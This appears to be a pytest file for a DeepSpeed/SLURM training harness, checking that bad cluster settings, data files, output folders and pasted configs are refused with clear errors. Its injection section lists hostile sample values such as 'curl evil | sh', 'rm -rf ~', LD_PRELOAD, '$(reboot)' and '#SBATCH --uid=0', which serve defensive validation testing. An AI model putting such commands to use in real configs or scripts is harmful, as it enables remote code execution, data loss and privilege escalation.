"""Bad input is caught before anything is written or launched: cluster settings that cannot work,
data files that cannot be read as the plan says, an --out that cannot be a run folder, DeepSpeed
configs pasted from other tools, plan values that would add lines or options to generated files.
Through the real command line (plan values that inject, through prepare): exit code 2, the field
and its value in the message, --out untouched."""
from __future__ import annotations

import gzip
import json
import os
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import PRETRAIN_TEXT, REPO, cli, make_plan, pretrain_phase, write_plan
from test_ds_config import LLAMA_FACTORY_Z3, leaves
from test_plan_errors import good_plan, multistep_phase, with_change

from harness.plan import PlanError, parse_plan
from harness.launch.setup import prepare


def refused(tmp_path: Path, plan: dict, *expected: str, command: str = "plan", out: Path | None = None) -> str:
    """Run `harness <command>` on plan; check it exits 2 naming each expected text, and that --out
    was not created (or, if it existed, not changed). Returns stderr."""
    out = out or tmp_path / "run"
    before = sorted(out.rglob("*")) if out.is_dir() else out.exists()
    result = cli(command, write_plan(tmp_path, plan), "--out", out)
    assert result.returncode == 2, f"exit {result.returncode}\n{result.stdout[-2000:]}\n{result.stderr[-2000:]}"
    for text in expected:
        assert text in result.stderr, result.stderr
    assert (sorted(out.rglob("*")) if out.is_dir() else out.exists()) == before
    return result.stderr


def write_lines(path: Path, lines: list[str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "wt") as f:
        f.write("".join(line + "\n" for line in lines))
    return path


PAIRS = [json.dumps({"prompt": f"Q{k}", "response": f"A{k}"}) for k in range(5)]


# --- 6. cluster settings that cannot work ---------------------------------------------------

def test_several_nodes_need_a_multi_node_launcher(tmp_path: Path):
    plan = good_plan()
    plan["cluster"]["nodes"] = 2
    refused(tmp_path, plan, "cluster.nodes: 2 -> 1 with launcher local")
    refused(tmp_path, with_change("phases.1.nodes", 2), "phases[1].nodes: 2 -> 1 with launcher local")


def test_pdsh_needs_hosts_even_on_one_node(tmp_path: Path):
    plan = good_plan()
    plan["cluster"]["launcher"] = "pdsh"
    refused(tmp_path, plan, "cluster.launcher: 'pdsh' -> pdsh starts ranks on the hosts it is given: set cluster.hostfile or cluster.hosts")


def test_a_hostfile_must_exist_and_hold_host_slots_lines(tmp_path: Path):
    plan = good_plan()
    plan["cluster"].update(launcher="pdsh", hostfile="hosts.txt")
    refused(tmp_path, plan, "cluster.hostfile: 'hosts.txt' -> an existing hostfile")
    (tmp_path / "hosts.txt").write_text("# our nodes\nnode1 slots=2   # first\nnode2 slot=2\nnode1 slots=2\nnode3;reboot slots=2\n")
    stderr = refused(tmp_path, plan, f"line 3 of {tmp_path / 'hosts.txt'}: 'node2 slot=2' is not 'host slots=N'",
                     "line 4 of", "host node1 is listed again (first on line 2)", "line 5 of")
    assert "line 1 " not in stderr and "line 2 " not in stderr


@pytest.mark.parametrize("time", ["1:00pm", "2 hours", "1-", "12:00:00\n#SBATCH --uid=0"])
def test_slurm_time_must_be_a_slurm_time(tmp_path: Path, time: str):
    refused(tmp_path, with_change("slurm", {"time": time}), f"slurm.time: {time!r} -> a SLURM time: MM, MM:SS, HH:MM:SS, D-HH")


@pytest.mark.parametrize("time", ["30", "30:00", "12:00:00", "2-12", "2-12:30", "2-12:30:00", "UNLIMITED", "infinite"])
def test_every_slurm_time_format_is_accepted(time: str):
    assert parse_plan(with_change("slurm", {"time": time}), REPO).slurm.time == time


# --- 7. data that cannot work, read from a sample of each file --------------------------------

def test_finetune_data_without_the_columns_is_refused_with_the_line(tmp_path: Path):
    data = write_lines(tmp_path / "data" / "qa.jsonl", PAIRS[:2] + [json.dumps({"question": "Q", "answer": "A"})])
    refused(tmp_path, with_change("phases.1.data", {"files": [str(data)]}),
            f"phases[1].data.files[0]: '{data}' -> rows with a column 'prompt' (line 3 has none; its columns: ['answer', 'question'])")
    refused(tmp_path, with_change("phases.1.data", {"files": [str(data)], "prompt_field": "question", "response_field": "answer"}),
            "rows with a column 'question' (line 1 has none")


def test_pretrain_json_and_parquet_need_the_text_column(tmp_path: Path):
    docs = write_lines(tmp_path / "docs.jsonl.gz", [json.dumps({"content": "a document"})])
    refused(tmp_path, with_change("phases.0.data", {"files": [str(docs)]}), f"'{docs}' -> rows with a column 'text' (line 1 has none")
    pq.write_table(pa.table({"body": ["a", "b"], "id": [1, 2]}), tmp_path / "docs.parquet")
    refused(tmp_path, with_change("phases.0.data", {"files": ["docs.parquet"], "text_field": "id"}), "text in column 'id' (it holds int64)")
    refused(tmp_path, with_change("phases.0.data", {"files": ["docs.parquet"], "text_field": "text"}), "a column 'text' (its columns: ['body', 'id'])")


@pytest.mark.parametrize("name", ["pairs.jsonl", "pairs.jsonl.gz"])
def test_invalid_json_is_refused_with_file_and_line(tmp_path: Path, name: str):
    data = write_lines(tmp_path / name, PAIRS[:2] + ['{"prompt": "Q", "response": "A"'] + PAIRS)
    stderr = refused(tmp_path, with_change("phases.1.data", {"files": [str(data)]}),
                     f"phases[1].data.files[0]: '{data}' -> JSON Lines, one object per line (line 3 is not valid JSON", command="run")
    assert "deepspeed" not in stderr.lower()


def test_an_empty_data_file_is_refused(tmp_path: Path):
    empty = tmp_path / "empty.txt"
    empty.write_text("\n\n")
    refused(tmp_path, with_change("phases.0.data", {"files": ["*.txt"]}), f"phases[0].data.files[0]: '{empty}' -> a file with rows (this one is empty)")


def test_finetune_data_needs_one_global_batch_besides_the_held_out_rows(tmp_path: Path):
    """5 rows: 1 held out for evaluation, 4 to train on, fewer than a global batch of 4 x 2 ranks."""
    data = write_lines(tmp_path / "few.jsonl", PAIRS)
    refused(tmp_path, with_change("phases.1.data", {"files": [str(data)]}), "phases[1].global_batch: 8 -> at most 4, the training rows of the fine-tune data")
    multistep = make_plan("few", [multistep_phase("m", [{"steps": 2, "data": "pretrain"}, {"steps": 2, "data": "finetune"}],
                                                  {"pretrain": {"files": [str(PRETRAIN_TEXT)]}, "finetune": {"files": [str(data)]}})], port=29500)
    stderr = refused(tmp_path, multistep, "phases[0].stages[1].global_batch: 8 -> at most 4")
    assert "stages[0]" not in stderr, "a stage on the pretrain set alone needs no fine-tune rows"


# --- 8. an --out that cannot be a run folder --------------------------------------------------

def test_out_that_is_a_file_or_under_one_is_refused(tmp_path: Path):
    a_file = tmp_path / "notes.txt"
    a_file.write_text("keep me\n")
    refused(tmp_path, good_plan(), f"--out: '{a_file}' -> a folder, or a path where one can be created ({a_file} is a file)", out=a_file)
    refused(tmp_path, good_plan(), f"--out: '{a_file / 'run'}' -> a folder", out=a_file / "run")
    assert a_file.read_text() == "keep me\n"
    both = refused(tmp_path, with_change("phases.0.zero_stage", 4), "phases[0].zero_stage: 4", "--out:", out=a_file / "run")
    assert "2 problem(s)" in both, "the plan's problems and --out's, in one report"


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write into any folder")
def test_out_in_a_read_only_folder_is_refused(tmp_path: Path):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    refused(tmp_path, good_plan(), f"({locked} is not writable)", out=locked / "run")


# --- 10. DeepSpeed configs pasted from other tools --------------------------------------------

def test_a_pasted_llama_factory_z3_config_works_with_auto_filled_from_the_plan(tmp_path: Path):
    (tmp_path / "ds").mkdir()
    (tmp_path / "ds" / "ds_z3_config.json").write_text(json.dumps(LLAMA_FACTORY_Z3, indent=2))
    plan = make_plan("pasted", [pretrain_phase("pre", deepspeed="ds/ds_z3_config.json"),
                                multistep_phase("m", [{"steps": 2, "deepspeed": "ds/ds_z3_config.json"}, {"steps": 2}])], port=29500)
    out = tmp_path / "run"
    result = cli("plan", write_plan(tmp_path, plan), "--out", out)
    assert result.returncode == 0, result.stderr[-3000:]
    for stage, zero_stage in (("00-pre", 3), ("01-m.c1.s1-adamw", 3), ("02-m.c1.s2-adamw", 2)):
        config = json.loads((out / "phases" / stage / "ds_config.json").read_text())
        assert [key for key, value in leaves(config) if value == "auto"] == []
        assert config["zero_optimization"]["stage"] == zero_stage, stage
        settings = json.loads((out / "phases" / stage / "stage.json").read_text())["stage"]["settings"]
        assert settings["zero_stage"] == zero_stage, "the harness's own ZeRO logic follows the file"
    assert json.loads((out / "phases" / "00-pre" / "ds_config.json").read_text())["zero_optimization"]["reduce_bucket_size"] == 64 * 64


def test_a_deepspeed_file_that_cannot_be_read_or_used_is_refused(tmp_path: Path):
    refused(tmp_path, with_change("phases.0.deepspeed", "ds_z3.json"), "phases[0].deepspeed: 'ds_z3.json' -> a mapping, or a DeepSpeed JSON file",
            f"{tmp_path / 'ds_z3.json'} cannot be read (No such file or directory)")
    (tmp_path / "broken.json").write_text('{"zero_optimization": {"stage": 3,}}')
    refused(tmp_path, with_change("phases.0.deepspeed", "broken.json"), "phases[0].deepspeed: 'broken.json'", "is not valid JSON")
    (tmp_path / "z3.json").write_text(json.dumps({**LLAMA_FACTORY_Z3, "optimizer": {"type": "SGD", "params": {"lr": "auto", "momentum": "auto"}}}))
    plan = with_change("phases.0.deepspeed", "z3.json")
    plan["phases"][0]["zero_stage"] = 2
    stderr = refused(tmp_path, plan, "phases[0].deepspeed.zero_optimization.stage: 3 -> \"auto\" or the plan's value (2): set zero_stage in the plan",
                     "phases[0].deepspeed.optimizer.type: 'SGD' -> \"auto\" or the plan's value ('AdamW')",
                     "phases[0].deepspeed.optimizer.params.momentum: 'auto' -> a value")
    assert "not supported between" not in stderr and "DeepSpeed rejects" not in stderr, "no config with \"auto\" left reaches DeepSpeed"


# --- 14. plan values that would inject lines or options into generated files -------------------

# (change to a good plan, field path, words of what is allowed)
INJECTIONS = [
    ("cluster.env", {"NCCL_DEBUG": "INFO\nLD_PRELOAD=/tmp/x.so"}, "cluster.env.NCCL_DEBUG", "one shell word"),
    ("cluster.env", {"NCCL_DEBUG": "INFO; curl evil | sh"}, "cluster.env.NCCL_DEBUG", "one shell word"),
    ("cluster.env", {"BAD KEY": "1"}, "cluster.env.BAD KEY", "a variable name"),
    ("cluster.env", {"X=Y": "1"}, "cluster.env.X=Y", "a variable name"),
    ("cluster.hosts", ["node1", "node2 slots=99"], "cluster.hosts[1]", "a host name or address"),
    ("cluster.hosts", ["node1;reboot"], "cluster.hosts[0]", "a host name or address"),
    ("cluster.master_addr", "node1\n", "cluster.master_addr", "a host name or address"),
    ("cluster.include", "node1 --force", "cluster.include", "hosts and slots as DeepSpeed takes them"),
    ("cluster.exclude", "node1$(reboot)", "cluster.exclude", "hosts and slots as DeepSpeed takes them"),
    ("cluster.launcher_args", ["--bind_cores_to_rank\r--x"], "cluster.launcher_args[0]", "one line"),
    ("slurm", {"partition": "gpu\n#SBATCH --uid=0"}, "slurm.partition", "one word"),
    ("slurm", {"account": "lab --qos=high"}, "slurm.account", "one word"),
    ("slurm", {"extra": ["--constraint=h100\nrm -rf ~"]}, "slurm.extra[0]", "one line"),
]


@pytest.mark.parametrize("change,value,field,allowed", INJECTIONS, ids=[c[2] for c in INJECTIONS])
def test_plan_values_cannot_add_lines_or_options_to_generated_files(tmp_path: Path, change, value, field, allowed):
    with pytest.raises(PlanError) as error:
        prepare(write_plan(tmp_path, with_change(change, value)), tmp_path / "run")
    assert any(path == field and allowed in text for path, _, text in error.value.problems), error.value.message()
    assert not (tmp_path / "run").exists()


def test_secrets_in_cluster_env_are_refused_without_printing_them(tmp_path: Path):
    plan = with_change("cluster.env", {"WANDB_API_KEY": "k-123456", "HF_TOKEN": "hf_abcdef", "NCCL_DEBUG": "INFO", "TOKENIZERS_PARALLELISM": "false"})
    stderr = refused(tmp_path, plan, "cluster.env.WANDB_API_KEY: 'WANDB_API_KEY' -> secrets do not belong in the plan (it is copied "
                                     "into the run folder): export it in the shell that runs harness", "cluster.env.HF_TOKEN: 'HF_TOKEN' -> secrets")
    assert "2 problem(s)" in stderr and "k-123456" not in stderr and "hf_abcdef" not in stderr
